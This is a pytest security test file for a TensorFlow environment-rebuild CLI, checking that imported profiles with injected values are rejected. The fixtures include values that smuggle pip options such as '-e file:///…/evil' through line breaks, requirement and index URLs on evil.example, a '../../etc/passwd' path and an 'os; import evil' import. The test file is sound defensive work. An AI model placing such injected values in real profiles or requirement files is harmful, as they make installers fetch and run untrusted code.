"""Issue 14, point 1: profiles from elsewhere, and bad input to every command.

* The attack of the issue: a version ``"1.24.3\\n-e file:///.../evil"`` and a requested entry
  ``"evilpkg @ file:///.../evil"`` reached uv's requirement files, and the ``setup.py`` of ``evil`` ran
  (it writes a marker file). Now every field is checked on load: for ``plan --profile``,
  ``upgrade --profile``, ``apply``, ``export --profile`` and ``bundle`` the command exits with one
  paragraph and the marker never appears.
* Consent: a foreign profile's non-index sources and unknown index locations are refused without
  ``--allow-sources`` / ``--allow-index``; ``plan --profile`` from elsewhere builds no sdist (uv
  ``--no-build``) unless ``--allow-sources``.
* A table of bad inputs across all commands: no traceback, non-zero exit, one paragraph,
  nothing changed on disk.

All offline against the kit (``kit_env``); the CLI runs in a subprocess.
"""

from __future__ import annotations

import os
import re
import sys
import tarfile
from pathlib import Path

import pytest
from tests.kit import create_venv
from tests.kit.cli import run_cli, tree_state

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="POSIX venv layout assumed")

PACKAGES = ["tensorflow-cpu==2.15.1", "numpy==1.24.3"]


# --------------------------------------------------------------------------- the workspace


@pytest.fixture(scope="module")
def ws(tmp_path_factory, kit_index: Path, kit_env: dict[str, str]) -> Path:
    """One folder: ``tfenv`` (a kit env), ``profiles/clean.toml`` (its snapshot), an ``evil`` project whose
    ``setup.py`` writes ``MARKER``, its sdist in ``sdists/``, a plain file and an empty folder."""
    root = tmp_path_factory.mktemp("hostile")
    env = create_venv(root / "tfenv", PACKAGES, find_links=kit_index, creator="uv", env=dict(kit_env))
    profiles = root / "profiles"
    profiles.mkdir()
    snap = run_cli(kit_env, "snapshot", "--env", env, "-o", profiles / "clean.toml", cwd=root, timeout=120)
    assert snap.code == 0, snap
    evil = root / "evil"
    evil.mkdir()
    (evil / "setup.py").write_text(
        f"import pathlib\npathlib.Path({str(root / 'MARKER')!r}).write_text('ran')\n"
        "from setuptools import setup\nsetup(name='evilpkg', version='1.0')\n"
    )
    sdists = root / "sdists"
    sdists.mkdir()
    with tarfile.open(sdists / "evilpkg-1.0.tar.gz", "w:gz") as tar:
        tar.add(evil / "setup.py", arcname="evilpkg-1.0/setup.py")
        info = root / "PKG-INFO"
        info.write_text("Metadata-Version: 2.1\nName: evilpkg\nVersion: 1.0\n")
        tar.add(info, arcname="evilpkg-1.0/PKG-INFO")
        info.unlink()
    (root / "afile.txt").write_text("not a folder\n")
    (root / "plain").mkdir()
    (root / "notexec").write_text("#!/bin/sh\n")
    return root


def clean(ws: Path) -> str:
    return (ws / "profiles" / "clean.toml").read_text()


def variant(ws: Path, name: str, text: str) -> Path:
    path = ws / "profiles" / name
    if not path.exists():
        path.write_text(text)
    return path


def evil_url(ws: Path) -> str:
    return (ws / "evil").as_uri()


def with_requested(text: str, entry: str) -> str:
    assert "requested = [\n" in text, text
    return text.replace("requested = [\n", f"requested = [\n    {entry},\n", 1)


def with_numpy_version(text: str, version: str) -> str:
    out, n = re.subn(r'(name = "numpy"\nversion = )"1\.24\.3"', lambda m: m.group(1) + version, text)
    assert n == 1, text
    return out


def with_index(text: str, line: str) -> str:
    assert "\n[index]\n" in text, text
    return text.replace("\n[index]\n", f"\n[index]\n{line}\n", 1)


def attack_profiles(ws: Path) -> dict[str, Path]:
    url = evil_url(ws)
    return {
        "version": variant(ws, "attack-version.toml", with_numpy_version(clean(ws), f'"1.24.3\\n-e {url}"')),
        "requested": variant(ws, "attack-requested.toml", with_requested(clean(ws), f'"evilpkg @ {url}"')),
    }


def kit_args(kit_index: Path) -> list[str]:
    return ["--offline", "--find-links", str(kit_index)]


def assert_refused(res, *fragments: str) -> None:
    """Non-zero exit, no traceback, one paragraph (error: ... hint: ...), short, nothing on stdout."""
    assert res.code != 0, res
    assert "Traceback" not in res.text, res
    # progress lines ("[   0.0s] snapshot") come before the error on a pipe; the error is one paragraph after them
    text = "\n".join(line for line in res.err.splitlines() if not re.match(r"^\[\s*[\d.]+s\] ", line)).strip()
    assert text.startswith(("error: ", "Usage: ")), res
    assert "\n\n" not in text or text.startswith("Usage: "), res
    assert len(res.err) < 4000, f"{len(res.err)} characters of error output"
    for fragment in fragments:
        assert fragment in res.err, (fragment, str(res))


# --------------------------------------------------------------------------- the attack of the issue


def attack_commands(ws: Path, kit_index: Path, profile: Path) -> dict[str, list]:
    env = ws / "tfenv"
    return {
        "plan": ["plan", "--env", env, "--to", "2.18", "--profile", profile, *kit_args(kit_index)],
        "upgrade": ["upgrade", "--env", env, "--to", "2.18", "--profile", profile, "--yes", *kit_args(kit_index)],
        "apply": ["apply", profile, "--env", ws / "new-env", "--yes", *kit_args(kit_index)],
        "apply-no": ["apply", profile, "--env", env, *kit_args(kit_index)],  # would ask; stdin is /dev/null
        "export": ["export", "--profile", profile, *kit_args(kit_index)],
        "bundle": ["bundle", profile, "-o", ws / "bundle-out", *kit_args(kit_index)],
    }


@pytest.mark.parametrize("kind", ["version", "requested"])
@pytest.mark.parametrize("command", ["plan", "upgrade", "apply", "apply-no", "export", "bundle"])
@pytest.mark.slow
def test_attack_never_runs_code(ws, kit_env, kit_index, kind, command):
    profile = attack_profiles(ws)[kind]
    before = tree_state(ws)
    res = run_cli(kit_env, *attack_commands(ws, kit_index, profile)[command], cwd=ws)
    assert not (ws / "MARKER").exists(), f"the profile's package code ran:\n{res}"
    field = "packages[" if kind == "version" else "requested[0]"
    assert_refused(res, "is not a valid profile", field, "Nothing was run")
    assert tree_state(ws) == before, "something changed on disk"


@pytest.mark.slow
def test_attack_premise_the_evil_project_runs_when_built(ws, kit_env, kit_index):
    """The marker is written whenever uv builds ``evil`` (the tests above could fail)."""
    target = ws / "premise-venv"
    import subprocess

    from tests.kit import uv_bin

    subprocess.run([uv_bin(), "venv", "-q", str(target)], env=dict(kit_env), check=True)
    try:
        proc = subprocess.run(
            [
                uv_bin(),
                "pip",
                "install",
                "-q",
                "--python",
                str(target / "bin" / "python"),
                "--find-links",
                str(kit_index),
                str(ws / "evil"),
            ],
            env=dict(kit_env),
            capture_output=True,
            text=True,
        )
        if proc.returncode != 0:
            pytest.skip(f"uv cannot build a setup.py project offline here: {proc.stderr.strip()[-300:]}")
        assert (ws / "MARKER").exists()
    finally:
        (ws / "MARKER").unlink(missing_ok=True)
        import shutil

        shutil.rmtree(target, ignore_errors=True)


# --------------------------------------------------------------------------- consent


@pytest.mark.slow
def test_foreign_non_index_source_needs_consent(ws, kit_env, kit_index):
    pkg = (
        f'\n[[packages]]\nname = "evilpkg"\nversion = "1.0"\nrequested = true\nsource = "path"\n'
        f'url = "{evil_url(ws)}"\n'
    )
    profile = variant(ws, "path-source.toml", with_requested(clean(ws), '"evilpkg"') + pkg)
    before = tree_state(ws)
    for command in ("plan", "upgrade", "apply", "export", "bundle"):
        res = run_cli(kit_env, *attack_commands(ws, kit_index, profile)[command], cwd=ws)
        assert_refused(
            res,
            "was not written by tfrebuild for this environment",
            "--allow-sources",
            f"evilpkg 1.0 (path: {evil_url(ws)})",
        )
        assert not (ws / "MARKER").exists()
    assert tree_state(ws) == before


@pytest.mark.slow
def test_foreign_index_needs_consent(ws, kit_env, kit_index):
    profile = variant(
        ws, "other-index.toml", with_index(clean(ws), 'extra_index_urls = ["https://packages.evil.example/simple"]')
    )
    before = tree_state(ws)
    for command in ("apply", "export", "bundle"):  # not --offline: the profile's index would be asked
        argv = [a for a in attack_commands(ws, kit_index, profile)[command] if a != "--offline"]
        res = run_cli(kit_env, *argv, cwd=ws)
        assert_refused(res, "--allow-index", "extra index: https://packages.evil.example/simple")
    assert tree_state(ws) == before
    # with consent it gets past the check (whatever uv then makes of that index, it is not a consent error)
    res = run_cli(kit_env, "export", "--profile", profile, "--allow-index", "--find-links", kit_index, cwd=ws)
    assert "--allow-index" not in res.err, res
    # --offline: nothing is fetched from the profile's indexes, so nothing is asked
    res = run_cli(kit_env, "export", "--profile", profile, *kit_args(kit_index), cwd=ws)
    assert res.code == 0, res


@pytest.mark.slow
def test_foreign_plan_profile_builds_no_sdist(ws, kit_env, kit_index):
    """A valid name that only an sdist provides: a foreign ``plan --profile`` passes uv ``--no-build``."""
    profile = variant(ws, "sdist-only.toml", with_requested(clean(ws), '"evilpkg"'))
    args = [
        "plan",
        "--env",
        ws / "tfenv",
        "--to",
        "2.18",
        "--profile",
        profile,
        *kit_args(kit_index),
        "--find-links",
        ws / "sdists",
    ]
    res = run_cli(kit_env, *args, cwd=ws)
    assert not (ws / "MARKER").exists(), f"plan built an sdist from a foreign profile:\n{res}"
    assert res.code != 0 and "Traceback" not in res.text, res
    assert "--allow-sources" in res.err, res
    # The premise: with consent, uv builds it (its setup.py runs) -- so the check above can fail.
    allowed = run_cli(kit_env, *args, "--allow-sources", cwd=ws)
    try:
        if not (ws / "MARKER").exists():
            pytest.skip(f"uv could not build the sdist offline here, so the premise is not shown:\n{allowed}")
    finally:
        (ws / "MARKER").unlink(missing_ok=True)


# --------------------------------------------------------------------------- accepted forms


def test_env_given_as_its_interpreter_is_that_env(ws, kit_env, kit_index):
    python = ws / "tfenv" / "bin" / "python"
    out = ws / "profiles" / "by-interpreter.toml"
    try:
        res = run_cli(kit_env, "snapshot", "--env", python, "-o", out, cwd=ws, timeout=120)
        assert res.code == 0, res
        assert f'source = "{ws / "tfenv"}"' in out.read_text()
        plan = run_cli(kit_env, "plan", "--env", python, "--to", "2.18", *kit_args(kit_index), cwd=ws)
        assert plan.code == 0 and "bare interpreter" not in plan.text, plan
    finally:
        out.unlink(missing_ok=True)


# --------------------------------------------------------------------------- the table of bad input

BIG = "x" * 200_000

# (file name, how to make it from the clean profile, a phrase of the error)
DAMAGED = [
    ("truncated.toml", lambda t: t[: len(t) // 3].rstrip() + '\n[[packages]\nname = "', "is not valid TOML"),
    ("schema99.toml", lambda t: t.replace("schema = 1\n", "schema = 99\n", 1), "profile schema 99"),
    ("noschema.toml", lambda t: t.replace("schema = 1\n", "", 1), "profile schema None"),
    ("reqtype.toml", lambda t: re.sub(r"requested = \[[^\]]*\]", 'requested = "numpy"', t, count=1), "expected a list"),
    ("vertype.toml", lambda t: with_numpy_version(t, "3"), "expected str"),
    ("unknown.toml", lambda t: t.replace("schema = 1\n", "schema = 1\nbogus = 3\n", 1), "unknown key(s) bogus"),
    ("newline.toml", lambda t: with_numpy_version(t, '"1.24.3\\n--index-url https://evil.example"'), "line break"),
    ("requrl.toml", lambda t: with_requested(t, '"evilpkg @ https://evil.example/e.tar.gz"'), "requested[0]"),
    ("reqopt.toml", lambda t: with_requested(t, '"-e file:///tmp/x"'), "a package name"),
    ("reqmarker.toml", lambda t: with_requested(t, "\"numpy; os_name == 'posix'\""), "a package name"),
    ("bigname.toml", lambda t: with_requested(t, f'"{BIG}"'), "200000 characters"),
    (
        "conslf.toml",
        lambda t: t.replace("\n[constraints]\n", '\n[constraints]\nnumpy = "<2\\n-e x"\n', 1),
        "line break",
    ),
    (
        "consurl.toml",
        lambda t: t.replace("\n[constraints]\n", '\n[constraints]\nnumpy = " @ file:///x"\n', 1),
        "without a URL",
    ),
    (
        "conslines.toml",
        lambda t: with_index(t, 'constraint_lines = ["evil @ https://evil.example/e.tar.gz"]'),
        "index.constraint_lines[0]",
    ),
    (
        "ftpindex.toml",
        lambda t: with_index(t, 'extra_index_urls = ["ftp://evil.example/simple"]'),
        "usable index location",
    ),
    (
        "spaceindex.toml",
        lambda t: re.sub(r'index_url = "[^"]*"\n', "", t, count=1).replace(
            "\n[index]\n", '\n[index]\nindex_url = "https://evil.example/a b"\n', 1
        ),
        "index.index_url",
    ),
    (
        "strategy.toml",
        lambda t: re.sub(r'index_strategy = "[^"]*"\n', "", t).replace(
            "\n[index]\n", '\n[index]\nindex_strategy = "yolo"\n', 1
        ),
        "index.index_strategy",
    ),
    (
        "import.toml",
        lambda t: re.sub(r"imports = \[[^\]]*\]", 'imports = ["os; import evil"]', t, count=1),
        "smoke.imports[0]",
    ),
    (
        "source.toml",
        lambda t: (
            t.replace('source = "index"', 'source = "magic"', 1)
            if 'source = "index"' in t
            else t.replace('name = "numpy"\n', 'name = "numpy"\nsource = "magic"\n', 1)
        ),
        "one of index, url, vcs, path, editable",
    ),
    (
        "srcurl.toml",
        lambda t: t.replace('name = "numpy"\n', 'name = "numpy"\nsource = "url"\nurl = "javascript:x"\n', 1),
        "a https/http/file URL",
    ),
    ("pkgname.toml", lambda t: t.replace('name = "numpy"\n', 'name = "../evil"\n', 1), "a package name"),
    (
        "tfver.toml",
        lambda t: re.sub(r'(\[tensorflow\]\ndistribution = "[^"]*"\nversion = )"[^"]*"', r'\1"latest"', t, count=1),
        "tensorflow.version",
    ),
    (
        "pyver.toml",
        lambda t: re.sub(r'(\[interpreter\]\nversion = )"[^"]*"', r'\1"3.x"', t, count=1),
        "interpreter.version",
    ),
    ("nul.toml", lambda t: with_numpy_version(t, '"1.24.3\\u0000"'), "NUL"),
    (
        "environ.toml",
        lambda t: t.replace("\n[index]\n", '\n[gpu.environ]\n"A B" = "1"\n\n[index]\n', 1),
        "environment variable name",
    ),
    (
        "projroot.toml",
        lambda t: t.replace("\n[[packages]]\n", '\n[project]\nmanager = "uv"\nroot = "../evil"\n\n[[packages]]\n', 1),
        "project.root",
    ),
    (
        "projfile.toml",
        lambda t: t.replace(
            "\n[[packages]]\n",
            '\n[project]\nmanager = "uv"\nroot = "/p"\nfiles = ["../../etc/passwd"]\n\n[[packages]]\n',
            1,
        ),
        "project.files[0]",
    ),
    (
        "projmgr.toml",
        lambda t: t.replace("\n[[packages]]\n", '\n[project]\nmanager = "pipenv"\n\n[[packages]]\n', 1),
        "project.manager",
    ),
]

COMMANDS_FOR_PROFILE = {
    "plan": lambda ws, p, k: ["plan", "--env", ws / "tfenv", "--profile", p, *kit_args(k)],
    "upgrade": lambda ws, p, k: ["upgrade", "--env", ws / "tfenv", "--profile", p, "--yes", *kit_args(k)],
    "apply": lambda ws, p, k: ["apply", p, "--env", ws / "new-env", "--yes", *kit_args(k)],
    "export": lambda ws, p, k: ["export", "--profile", p, *kit_args(k)],
    "bundle": lambda ws, p, k: ["bundle", p, "-o", ws / "bundle-out", *kit_args(k)],
    "diff": lambda ws, p, k: ["diff", ws / "profiles" / "clean.toml", p],
}


def _damaged_cases():
    cases = []
    commands = list(COMMANDS_FOR_PROFILE)
    for i, (name, _, phrase) in enumerate(DAMAGED):
        for command in (commands[i % len(commands)], commands[(i + 3) % len(commands)]):
            cases.append(pytest.param(("damaged", name, command), 2, phrase, id=f"{command}-{name}"))
    return cases


E, N = "{ws}/tfenv", "{ws}/nope"
P = "{ws}/profiles/clean.toml"
PLAIN = [
    (["snapshot", "--env", N], 2, "does not exist"),
    (["snapshot", "--env", "{ws}/plain"], 2, "not a Python environment"),
    (["snapshot", "--env", "{ws}/notexec"], 2, "not an executable interpreter"),
    (["snapshot", "--env", E, "-o", "{ws}/profiles"], 2, "is a folder"),
    (["snapshot", "--env", E, "-o", "{ws}/profiles", "--force"], 2, "is a folder"),
    (["snapshot", "--env", E, "-o", P], 2, "already exists"),
    (["snapshot", "--env", E, "-o", "{ws}/afile.txt/x.toml"], 2, "is a file, not a folder"),
    (["snapshot", "--env", "{ws}/tf\nenv"], 2, "line break"),
    (["plan", "--env", E, "--to", "banana", "--offline"], 2, "not a TensorFlow version"),
    (["plan", "--env", E, "--to", "", "--offline"], 2, "empty value"),
    (["plan", "--env", E, "--to", "2.18\n-e x", "--offline"], 2, "not a TensorFlow version"),
    (["plan", "--env", E, "--profile", "{ws}/profiles/none.toml", "--offline"], 2, "does not exist"),
    (["plan", "--env", E, "--profile", "{ws}/profiles", "--offline"], 2, "cannot be read"),
    (["plan", "--env", E, "--strategy", "wild"], 2, "wild"),
    (["plan", "--env", E, "--index-url", "ftp://x/simple", "--offline"], 2, "is not usable"),
    (["plan", "--env", "{ws}/plain", "--offline"], 2, "not a Python environment"),
    (["upgrade", "--env", N, "--yes"], 2, "does not exist"),
    (["upgrade", "--env", E, "--to", "x.y", "--yes"], 2, "not a TensorFlow version"),
    (["upgrade", "--env", E, "--gpu", "tpu", "--yes"], 2, "tpu"),
    (["doctor", "--env", N], 2, "does not exist"),
    (["doctor", "--env", "{ws}/plain"], 2, "not a Python environment"),
    (["releases", "--env", N, "--offline"], 2, "does not exist"),
    (["rollback", "--env", N, "--yes"], 2, "does not exist"),
    (["rollback", "--env", E, "--to", "0", "--yes"], None, None),
    (["rollback", "--env", E, "--to", "-1", "--yes"], None, None),
    (["rollback", "--env", E, "--to", "abc", "--yes"], 2, "Invalid value"),
    (["rollback", "--env", E, "--yes"], None, "not managed"),
    (["history", "--env", N], 2, "does not exist"),
    (["history", "--env", E], None, "not managed"),
    (["diff", "1", "2", "--env", E], None, None),
    (["diff", P, "{ws}/profiles/none.toml"], 2, "does not exist"),
    (["diff", "1", "x", "--env", N], 2, None),
    (["gc", "--env", E, "--keep", "-1", "--yes"], None, None),
    (["gc", "--env", E, "--keep", "abc", "--yes"], 2, "Invalid value"),
    (["gc", "--env", N, "--yes"], 2, "does not exist"),
    (["status", "--env", N], 2, "does not exist"),
    (["status", "--env", "{ws}/tf\nenv"], 2, "line break"),
    (["apply", "{ws}/profiles/none.toml", "--env", "{ws}/new-env", "--yes"], 2, "does not exist"),
    (["apply", P, "--env", "{ws}/tfenv/bin/python", "--yes", "--offline"], 2, "interpreter, not an environment"),
    (["apply", P, "--env", "{ws}/new\nenv", "--yes", "--offline"], 2, "line break"),
    (["apply", P, "--env", "{ws}/afile.txt/sub", "--yes", "--offline"], None, None),
    (["bundle", P, "-o", "{ws}/afile.txt", "--offline"], 2, "is a file"),
    (["bundle", P, "-o", "{ws}/profiles", "--offline"], 2, "not empty and not a bundle"),
    (["bundle", "{ws}/profiles/none.toml", "-o", "{ws}/bundle-out"], 2, "does not exist"),
    (["export", "--env", E, "--profile", P], 2, "either --env or --profile"),
    (["export", "--profile", P, "-o", "{ws}/profiles", "--offline"], 2, "is a folder"),
    (["export", "--profile", P, "-o", P, "--offline"], 2, "already exists"),
    (["export", "--profile", P, "--format", "xml"], 2, "xml"),
    (["export", "--env", N], 2, "does not exist"),
]


def _cases():
    return [
        pytest.param(args, code, phrase, id=f"{args[0]}-{i}") for i, (args, code, phrase) in enumerate(PLAIN)
    ] + _damaged_cases()


CASES = _cases()
BAD_INPUTS = len(CASES)


@pytest.mark.parametrize("args, code, phrase", CASES)
def test_bad_input(ws, kit_env, kit_index, args, code, phrase):
    if isinstance(args, tuple):  # a damaged profile given to a command
        _, name, command = args
        make = next(m for n, m, _ in DAMAGED if n == name)
        profile = variant(ws, name, make(clean(ws)))
        argv = COMMANDS_FOR_PROFILE[command](ws, profile, kit_index)
    else:
        argv = [a.format(ws=ws) for a in args]
    before = tree_state(ws)
    res = run_cli(kit_env, *argv, cwd=ws, timeout=120)
    assert res.code != 0, res
    if code is not None:
        assert res.code == code, res
    assert_refused(res, *([phrase] if phrase else []))
    assert res.out == "", res
    assert tree_state(ws) == before, f"something changed on disk:\n{res}"


def test_bad_input_count():
    assert BAD_INPUTS >= 60, BAD_INPUTS
    print(f"bad inputs tried: {BAD_INPUTS}")


def test_message_never_echoes_a_huge_value(ws, kit_env, kit_index):
    profile = variant(ws, "bigname.toml", with_requested(clean(ws), f'"{BIG}"'))
    res = run_cli(kit_env, "plan", "--env", ws / "tfenv", "--profile", profile, *kit_args(kit_index), cwd=ws)
    assert_refused(res, "requested[0]")
    assert res.err.count("x" * 81) == 0, len(res.err)


@pytest.mark.parametrize("env", ["{ws}/tfenv"])
def test_env_path_is_not_left_changed(ws, env):  # the workspace itself is intact after the table
    assert os.path.isfile(os.path.join(env.format(ws=ws), "pyvenv.cfg"))


def test_foreign_lock_that_builds_from_source_needs_consent(tmp_path):
    """apply installs a profile's lock as it is: a package the lock offers only as an sdist (or a source
    tree) is built, which runs its code, so a lock tfrebuild did not write needs --allow-sources for it."""
    from rebuild.core import consent, lockfile
    from rebuild.errors import UserError

    digest = "0" * 64
    lock = lockfile.parse_lock(
        'lock-version = "1.0"\ncreated-by = "someone"\n'
        '[[packages]]\nname = "six"\nversion = "1.17.0"\n'
        f'wheels = [{{name = "six-1.17.0-py2.py3-none-any.whl", path = "six-1.17.0-py2.py3-none-any.whl", '
        f'hashes = {{sha256 = "{digest}"}}}}]\n'
        f'sdist = {{name = "six-1.17.0.tar.gz", path = "six-1.17.0.tar.gz", hashes = {{sha256 = "{digest}"}}}}\n'
        '[[packages]]\nname = "evilpkg"\nversion = "1.0"\n'
        f'sdist = {{name = "evilpkg-1.0.tar.gz", path = "evilpkg-1.0.tar.gz", hashes = {{sha256 = "{digest}"}}}}\n',
        "test lock",
        base=tmp_path,
    )
    with pytest.raises(UserError) as refused:
        consent.check_builds(lock, tmp_path / "p.toml", trusted=False, allowed=consent.Allowed(), command="apply")
    assert refused.value.exit_code == 2 and "--allow-sources" in refused.value.hint
    assert "evilpkg 1.0 (built from evilpkg-1.0.tar.gz)" in refused.value.details
    assert "six" not in refused.value.details  # it has a wheel: nothing is built for it
    consent.check_builds(lock, tmp_path / "p.toml", trusted=True, allowed=consent.Allowed(), command="apply")
    consent.check_builds(
        lock, tmp_path / "p.toml", trusted=False, allowed=consent.Allowed(sources=True), command="apply"
    )


@pytest.mark.slow
def test_foreign_smoke_commands_need_consent_before_upgrade_runs_them(ws, kit_env, kit_index):
    """upgrade runs a --profile's [smoke].commands in the new env: from a profile from elsewhere, not without
    --allow-commands (plan runs none, so it does not ask)."""
    marker = ws / "MARKER"
    text = re.sub(r"(?m)^commands = \[\]$", "", clean(ws))
    text = text.replace("[smoke]\n", f'[smoke]\ncommands = ["touch {marker}"]\n', 1)
    profile = variant(ws, "commands.toml", text)
    assert "touch" in profile.read_text()
    before = tree_state(ws)
    res = run_cli(kit_env, *attack_commands(ws, kit_index, profile)["upgrade"], cwd=ws)
    assert_refused(res, "--allow-commands", f"smoke command: touch {marker}")
    assert not marker.exists() and tree_state(ws) == before
    res = run_cli(kit_env, *attack_commands(ws, kit_index, profile)["plan"], cwd=ws)
    assert "--allow-commands" not in res.err and not marker.exists(), res
    # with consent the command runs, in the new env's checks
    res = run_cli(kit_env, *attack_commands(ws, kit_index, profile)["upgrade"], "--allow-commands", cwd=ws)
    assert res.code == 0 and marker.exists(), res
    marker.unlink()
